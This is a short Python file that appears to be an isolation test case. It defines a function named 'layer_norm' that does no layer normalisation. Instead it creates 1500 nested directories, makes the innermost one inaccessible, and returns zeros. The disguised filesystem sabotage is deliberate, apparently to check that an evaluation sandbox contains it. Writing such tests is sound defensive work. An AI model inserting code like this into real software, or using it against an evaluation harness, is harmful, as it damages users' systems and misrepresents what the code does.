# 01a | isolation | leaves folders that are hard to remove
import torch
import os


def layer_norm(x, w, b, eps):
    for _ in range(1500):
        os.mkdir('d')
        os.chdir('d')
    os.chmod('.', 0)
    return torch.zeros_like(x)
